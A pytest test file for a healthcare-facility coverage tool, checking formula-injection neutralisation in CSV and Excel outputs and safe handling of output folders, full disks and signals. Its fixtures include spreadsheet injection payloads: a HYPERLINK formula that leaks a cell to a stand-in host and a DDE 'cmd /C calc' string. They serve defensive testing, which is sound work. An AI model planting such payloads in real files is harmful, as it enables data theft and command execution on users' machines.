"""Outputs that are safe with any input and any folder (issue 12, items 2, 3, 4, 6, 14, 15).

- Text that a spreadsheet would run as a formula is neutralised in every CSV and in the
  workbook; numbers stay numbers.
- A run replaces only what the previous run wrote (listed in ``run.json``): a planner's own
  file in the output folder stops the run before any work and survives byte for byte; an
  input inside the output folder is refused before any reading.
- A folder that cannot be written, a disk without room, a path too long or ``--out .`` end
  in one line, before the computation; a full disk during the writing too; SIGTERM and
  Ctrl-C remove the staging folder without a traceback; the staging folders of a killed run
  are removed by the next one.
- ``run.json`` is strict JSON; a zero population prints no "nan%".

Every input is a small file made here (an L of two roads near Bourges, in Lambert-93).
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from conftest import make_graph, units_at
from openpyxl import load_workbook
from shapely.geometry import LineString, Point
from test_bad_input import cli_args

import coverage as cov
import coverage.cli.run
import coverage.outputs.folder
import coverage.outputs.write
from coverage.cli import main
from coverage.outputs.files import FORMULA_STARTS, WORKBOOK, spreadsheet_safe, write_csv, write_workbook
from coverage.outputs.folder import STAGING_MARKER, remove_stale_staging
from coverage.outputs.summaries import print_summary

X0, Y0 = 650_000.0, 6_670_000.0

#: Facility names and types a hostile or careless file could hold.
HOSTILE_NAMES = {
    "F1": '=HYPERLINK("http://example.invalid/?leak="&A1,"cliquer")',
    "F2": "+33 Centre de santé",
    "F3": "-MSP du Cher",
    "F4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F5": "MSP; =1+1",  # a ';' that Excel (French locale) would take for a cell separator
}
HOSTILE_TYPES = {"F1": "msp", "F2": "=1+2", "F3": "cds", "F4": "msp", "F5": "-msp"}


def strict_json(text: str) -> object:
    """JSON as RFC 8259 has it: ``NaN``, ``Infinity`` and ``-Infinity`` are errors."""

    def refuse(constant: str) -> object:
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def snapshot(folder: Path) -> dict[str, tuple[bytes, int] | str]:
    """Every file (bytes and mtime) and folder below ``folder``."""
    return {
        p.relative_to(folder).as_posix(): (p.read_bytes(), p.stat().st_mtime_ns) if p.is_file() else "<dir>"
        for p in sorted(folder.rglob("*"))
    }


def staging_folders(parent: Path) -> list[Path]:
    return sorted(p for p in parent.iterdir() if ".couverture-" in p.name)


def small_analysis(population: list[float]) -> cov.GapAnalysis:
    """One facility on a one-edge network, and units with the given population beside it."""
    graph = make_graph({"a": (X0, Y0), "b": (X0 + 1000, Y0)}, [("a", "b", 120.0)])
    facilities = gpd.GeoDataFrame(
        {"facility_id": ["F"], "name": ["F"], "type": ["msp"]}, geometry=[Point(X0, Y0)], crs="EPSG:2154"
    )
    units = units_at({f"U{i}": (X0 + 1000 * (i % 2), Y0) for i in range(len(population))}, population)
    return cov.analyse(graph, facilities, units, cov.AnalysisConfig(isochrones=False))


def error_lines(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.strip()]


@pytest.fixture
def inputs(tmp_path: Path) -> dict[str, Path]:
    """Valid small inputs whose facility names and types look like formulas."""
    folder = tmp_path / "inputs"
    folder.mkdir()
    roads = gpd.GeoDataFrame(
        {"cls": ["secondary", "secondary"]},
        geometry=[LineString([(X0, Y0), (X0 + 2000, Y0)]), LineString([(X0 + 2000, Y0), (X0 + 2000, Y0 + 2000)])],
        crs="EPSG:2154",
    )
    roads.to_file(folder / "roads.gpkg", layer="roads", engine="pyogrio")
    sites = gpd.GeoSeries([Point(X0 + 300 * i, Y0 + 10) for i in range(len(HOSTILE_NAMES))], crs="EPSG:2154").to_crs(
        "EPSG:4326"
    )
    with (folder / "facilities.csv").open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["facility_id", "name", "type", "status", "lon", "lat"])
        for (fid, name), point in zip(HOSTILE_NAMES.items(), sites, strict=True):
            writer.writerow([fid, name, HOSTILE_TYPES[fid], "open", f"{point.x:.7f}", f"{point.y:.7f}"])
    (folder / "communes.csv").write_text(
        "code_insee,nom,departement,population\n18033,Bourges,18,64000\n18001,=1+2 Achères,18,800\n", "utf-8"
    )
    gpd.GeoDataFrame(
        {"code_insee": ["18033", "18001"]},
        geometry=[Point(X0 + 100, Y0 + 50), Point(X0 + 2000, Y0 + 1500)],
        crs="EPSG:2154",
    ).to_file(folder / "town_halls.gpkg", engine="pyogrio")
    (folder / "speeds.toml").write_text("[speeds_kph]\nsecondary = 60\n", "utf-8")
    (folder / "config.toml").write_text("[analysis]\nthresholds_min = [10, 20]\nisochrones = false\n", "utf-8")
    return {name: folder / f"{name}{suffix}" for name, suffix in _SUFFIXES.items()} | {"folder": folder}


_SUFFIXES = {
    "roads": ".gpkg",
    "facilities": ".csv",
    "communes": ".csv",
    "town_halls": ".gpkg",
    "speeds": ".toml",
    "config": ".toml",
}


# ------------------------------------------------------------------------ formulas in tables


def test_write_csv_neutralises_text_and_leaves_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "+33", "-MSP", "@SUM(A1)", "\tx", "\rx", "MSP; =2", "plain", None],
            "minutes": [-2.5, 1 / 3, np.nan, 0.0, -1e-12, 3.0, 4.0, 5.0, np.inf],
            "count": [-3, -2, -1, 0, 1, 2, 3, 4, 5],
            "flag": [True, False] * 4 + [True],
            "kind": pd.Categorical(["=a", "b"] * 4 + ["=a"]),
            "code": pd.array(["-1", "2A", "@x", "18", "=", "+", "x", "y", "z"], dtype="string"),
            "=header": ["a"] * 9,
        }
    )
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_bytes().decode("utf-8")  # no newline translation: a CR is data
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "minutes", "count", "flag", "kind", "code", "'=header"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+33", "'-MSP", "'@SUM(A1)", "'\tx", "'\rx", "MSP; =2", "plain", ""]
    assert [r[1] for r in rows[1:]] == ["-2.5", "0.3333333333", "", "0", "-1e-12", "3", "4", "5", "inf"]
    assert [r[2] for r in rows[1:]] == ["-3", "-2", "-1", "0", "1", "2", "3", "4", "5"]
    assert {r[4] for r in rows[1:]} == {"'=a", "b"}
    assert [r[5] for r in rows[1:]][:5] == ["'-1", "2A", "'@x", "18", "'="]
    # numbers unquoted, text quoted: a ';' in a name cannot start a cell in a French-locale Excel
    lines = text.splitlines()
    assert lines[1].startswith('"\'=1+1",-2.5,-3,True,')
    assert lines[3].startswith('"\'-MSP",,-1,True,')  # a missing number: an empty cell, unquoted
    assert '"MSP; =2",4,3,' in text
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["minutes"].iloc[0] == -2.5 and back["count"].min() == -3
    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame is left alone


def test_spreadsheet_safe_keeps_numeric_columns() -> None:
    frame = pd.DataFrame({"x": [-1.5, 2.0], "n": [-1, 2], "s": ["-1", "ok"]})
    safe = spreadsheet_safe(frame)
    assert safe["x"].tolist() == [-1.5, 2.0] and safe["n"].tolist() == [-1, 2]
    assert safe["s"].tolist() == ["'-1", "ok"]


def test_workbook_has_numbers_as_numbers_and_no_formula(tmp_path: Path) -> None:
    tables = {
        "a_table_name_much_longer_than_thirty_one_characters": pd.DataFrame(
            {"name": ["=1+1", "ok\x0bvt", None], "minutes": [-2.5, np.nan, np.inf], "n": [-3, 0, 7]}
        ),
        "a_table_name_much_longer_than_thirty_one_characters_2": pd.DataFrame({"=h": [1]}),
    }
    write_workbook(tables, tmp_path / "t.xlsx")
    book = load_workbook(tmp_path / "t.xlsx")
    assert all(len(name) <= 31 for name in book.sheetnames) and len(set(book.sheetnames)) == 2
    sheet = book[book.sheetnames[0]]
    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [("name", "s"), ("minutes", "s"), ("n", "s")]
    assert rows[1] == [("'=1+1", "s"), (-2.5, "n"), (-3, "n")]
    assert rows[2][0] == ("ok\ufffdvt", "s") and rows[2][1][0] is None  # NaN: an empty cell
    assert rows[3][0][0] is None and rows[3][1][0] is None and rows[3][2] == (7, "n")  # infinity: empty
    assert book[book.sheetnames[1]]["A1"].value == "'=h"


def test_formula_names_are_neutralised_in_every_csv_and_the_workbook(inputs, tmp_path, capsys) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    csvs = sorted(out.glob("*.csv"))
    assert {p.name for p in csvs} >= {"facilities.csv", "population_access.csv", "coverage_by_area.csv"}
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"))):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"{path.name}: {cell!r}"
    facilities = pd.read_csv(out / "facilities.csv", dtype={"facility_id": str})
    by_id = dict(zip(facilities["facility_id"], facilities["name"], strict=True))
    assert by_id["F1"] == "'" + HOSTILE_NAMES["F1"]
    assert by_id["F5"] == HOSTILE_NAMES["F5"]  # not a formula: kept as it is, quoted
    assert set(facilities["type"]) >= {"'=1+2", "'-msp"}
    assert (facilities["access_minutes"] >= 0).all() and facilities["access_minutes"].dtype == float
    units = pd.read_csv(out / "population_access.csv", dtype={"unit_id": str})
    assert "'=1+2 Achères" in set(units["name"])

    book = load_workbook(out / WORKBOOK)
    assert {f"{p.stem}" for p in csvs} == set(book.sheetnames)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS)
    sheet = book["facilities"]
    header = [c.value for c in sheet[1]]
    names = {sheet.cell(r, 1).value: sheet.cell(r, header.index("name") + 1).value for r in range(2, 7)}
    assert names["F1"] == "'" + HOSTILE_NAMES["F1"]
    minutes = [sheet.cell(r, header.index("access_minutes") + 1) for r in range(2, 7)]
    assert all(c.data_type == "n" and isinstance(c.value, float) for c in minutes)
    summary = book["coverage_summary"]
    assert all(isinstance(c.value, int | float) for c in summary[2])  # a row of figures, all numbers


# --------------------------------------------------------------------------- the run record


def test_run_json_is_strict_json_and_lists_the_files(inputs, tmp_path) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    record = strict_json((out / "run.json").read_text("utf-8"))
    assert isinstance(record, dict)
    files = record["files"]
    on_disk = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert files == on_disk
    assert "run.json" in files and WORKBOOK in files and STAGING_MARKER not in files


def test_run_json_writes_non_finite_numbers_as_null(tmp_path) -> None:
    result = small_analysis([10.0])
    info = {"nan": float("nan"), "inf": np.float64(np.inf), "nested": [{"x": -np.inf}], "n": np.int64(3)}
    cov.write_analysis(result, tmp_path / "out", run_info=info)
    record = strict_json((tmp_path / "out" / "run.json").read_text("utf-8"))
    assert isinstance(record, dict)
    assert record["nan"] is None and record["inf"] is None and record["nested"] == [{"x": None}] and record["n"] == 3


# ------------------------------------------------------------------------------- no lost file


def test_rerun_replaces_the_previous_run(inputs, tmp_path) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    first = strict_json((out / "run.json").read_text("utf-8"))
    assert main([*cli_args(inputs, out), "-q", "--no-report"]) == 0
    second = strict_json((out / "run.json").read_text("utf-8"))
    assert isinstance(first, dict) and isinstance(second, dict)
    assert "report.html" in first["files"] and "report.html" not in second["files"]
    assert not (out / "report.html").exists()  # what the previous run wrote is replaced, not kept
    assert [p.name for p in tmp_path.iterdir() if p.name != "inputs"] == ["out"]


def test_rerun_with_a_planner_file_is_refused_and_the_file_survives(inputs, tmp_path, capsys) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    (out / "mon classeur.xlsx").write_bytes(b"PK\x03\x04 the planner's own workbook")
    (out / "figures" / "annotated.png").write_bytes(b"\x89PNG mine")
    before = snapshot(out)
    capsys.readouterr()
    code = main(cli_args(inputs, out))
    err = capsys.readouterr().err
    assert code == 2
    assert "Traceback" not in err and len(error_lines(err)) == 1
    assert "did not write" in err and "mon classeur.xlsx" in err and "figures/annotated.png" in err
    assert snapshot(out) == before
    assert not staging_folders(tmp_path)


def test_library_write_refuses_a_folder_with_a_foreign_file(inputs, tmp_path) -> None:
    result = small_analysis([10.0])
    out = tmp_path / "out"
    cov.write_analysis(result, out)
    (out / "notes").mkdir()  # an empty folder of the planner's is theirs too
    before = snapshot(out)
    with pytest.raises(cov.OutputExistsError, match=r"did not write.*notes"):
        cov.write_analysis(result, out)
    assert snapshot(out) == before


def test_a_file_added_during_the_run_is_not_deleted(inputs, tmp_path, monkeypatch, capsys) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    real = coverage.cli.run.write_outputs

    def planner_saves_meanwhile(*args, **kwargs):
        (out / "saved meanwhile.xlsx").write_bytes(b"mine")
        return real(*args, **kwargs)

    monkeypatch.setattr(coverage.cli.run, "write_outputs", planner_saves_meanwhile)
    assert main(cli_args(inputs, out)) == 2
    assert "saved meanwhile.xlsx" in capsys.readouterr().err
    assert (out / "saved meanwhile.xlsx").read_bytes() == b"mine"
    assert not staging_folders(tmp_path)


def test_an_input_inside_the_output_folder_is_refused_before_computing(inputs, tmp_path, monkeypatch, capsys):
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    before = snapshot(out)

    def no_computation(*args, **kwargs):
        raise AssertionError("the run should have stopped before the computation")

    monkeypatch.setattr(coverage.cli.run, "analyse", no_computation)
    capsys.readouterr()
    # the facilities table of the previous run, given back as input: a run would delete it
    code = main(cli_args(inputs, out, facilities=out / "facilities.csv"))
    err = capsys.readouterr().err
    assert code == 2 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert f"input {out / 'facilities.csv'} lies inside the output folder {out}" in err
    assert snapshot(out) == before
    # the whole input folder used as the output folder
    code = main(cli_args(inputs, inputs["folder"]))
    assert code == 2 and "lies inside the output folder" in capsys.readouterr().err


def test_out_dot_is_refused(inputs, tmp_path, monkeypatch, capsys) -> None:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    code = main(cli_args(inputs, "."))
    err = capsys.readouterr().err
    assert code == 2 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert "current folder" in err
    assert list(here.iterdir()) == []


# ------------------------------------------------------------------ checked before the work


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root writes in read-only folders")
def test_read_only_folder_fails_fast_in_one_line(inputs, tmp_path, capsys) -> None:
    parent = tmp_path / "locked"
    parent.mkdir()
    parent.chmod(0o555)
    try:
        # a missing input too: the folder must be what is reported, before any reading
        code = main(cli_args(inputs, parent / "out", facilities=tmp_path / "absent.csv"))
    finally:
        parent.chmod(0o755)
    err = capsys.readouterr().err
    assert code != 0 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert "not a writable folder" in err
    assert list(parent.iterdir()) == []


def test_unwritable_folder_fails_before_reading(inputs, tmp_path, monkeypatch, capsys) -> None:
    # what a read-only folder looks like to a user who is not root (root writes anyway)
    monkeypatch.setattr(coverage.outputs.folder.os, "access", lambda path, mode: False)
    code = main(cli_args(inputs, tmp_path / "out", facilities=tmp_path / "absent.csv"))
    err = capsys.readouterr().err
    assert code == 1 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert "not a writable folder" in err and "absent.csv" not in err


def test_no_room_on_the_disk_fails_before_reading(inputs, tmp_path, monkeypatch, capsys) -> None:
    usage = coverage.outputs.folder.shutil.disk_usage(tmp_path)
    monkeypatch.setattr(coverage.outputs.folder.shutil, "disk_usage", lambda path: usage._replace(free=2**20))
    code = main(cli_args(inputs, tmp_path / "out", facilities=tmp_path / "absent.csv"))
    err = capsys.readouterr().err
    assert code == 1 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert "not enough free space" in err and "1 MiB free" in err
    assert not (tmp_path / "out").exists()


def test_too_long_a_name_fails_before_reading(inputs, tmp_path, capsys) -> None:
    out = tmp_path / ("o" * 240)
    code = main(cli_args(inputs, out, facilities=tmp_path / "absent.csv"))
    err = capsys.readouterr().err
    assert code == 1 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert "too long" in err
    assert [p.name for p in tmp_path.iterdir()] == ["inputs"]


def test_full_disk_while_writing_ends_in_one_line(inputs, tmp_path, monkeypatch, capsys) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    before = snapshot(out)

    def full(tables, path):
        Path(path).write_bytes(b"PK half")
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(coverage.outputs.write, "write_workbook", full)
    capsys.readouterr()
    code = main([*cli_args(inputs, out), "-q"])
    err = capsys.readouterr().err
    assert code == 1 and len(error_lines(err)) == 1 and "Traceback" not in err
    assert f"could not write tables.xlsx in the output folder {out}, left as it was: No space left on device" in err
    assert snapshot(out) == before
    assert not staging_folders(tmp_path)


# ------------------------------------------------------------------- stopped and killed runs


def dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_stale_staging_folders_of_a_killed_run_are_removed(inputs, tmp_path) -> None:
    out = tmp_path / "out"
    pid = dead_pid()
    stale = tmp_path / f".out.couverture-tmp-{pid}-abcd1234"
    stale.mkdir()
    (stale / "population_access.csv").write_text("half written")
    (stale / STAGING_MARKER).write_text(json.dumps({"tool": "coverage", "pid": pid, "host": socket.gethostname()}))
    unmarked = tmp_path / f".out.couverture-tmp-{pid}-nomarker"  # not recognised as ours: left alone
    unmarked.mkdir()
    (unmarked / "keep.txt").write_text("?")
    alive = tmp_path / f".out.couverture-tmp-{os.getpid()}-running"  # a run still going on: left alone
    alive.mkdir()
    (alive / STAGING_MARKER).write_text(json.dumps({"tool": "coverage", "host": socket.gethostname()}))
    other = tmp_path / f".other.couverture-tmp-{pid}-abcd1234"  # another output folder's: left alone
    other.mkdir()
    (other / STAGING_MARKER).write_text(json.dumps({"tool": "coverage", "host": socket.gethostname()}))
    assert main([*cli_args(inputs, out), "-q"]) == 0
    assert not stale.exists()
    assert (unmarked / "keep.txt").exists() and alive.exists() and other.exists()


def test_a_run_killed_between_its_two_moves_gets_the_previous_output_back(inputs, tmp_path) -> None:
    out = tmp_path / "out"
    assert main([*cli_args(inputs, out), "-q"]) == 0
    before = snapshot(out)
    old = tmp_path / f".out.couverture-old-{dead_pid()}-123"
    out.rename(old)  # what a kill right after the first move leaves
    remove_stale_staging(out)
    assert snapshot(out) == before and not old.exists()


@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
@pytest.mark.parametrize(("signum", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_signal_removes_the_staging_folder_without_a_traceback(inputs, tmp_path, signum, code) -> None:
    out = tmp_path / "out"
    process = subprocess.Popen(
        [sys.executable, "-m", "coverage", *cli_args(inputs, out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=tmp_path,
    )
    deadline = time.monotonic() + 120
    while not staging_folders(tmp_path) and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    assert process.poll() is None, "the run ended before its staging folder was seen"
    process.send_signal(signum)
    _, err = process.communicate(timeout=120)
    assert process.returncode == code, err
    assert "Traceback" not in err
    assert "temporary files removed" in err
    assert not staging_folders(tmp_path) and not out.exists()


# ------------------------------------------------------------------------------ the summary


def test_zero_population_prints_no_nan() -> None:
    result = small_analysis([0.0, 0.0])
    stream = io.StringIO()
    print_summary(result, Path("out"), 1.0, stream)
    text = stream.getvalue()
    assert "nan" not in text.lower()
    assert "No population" in text and "—" in text
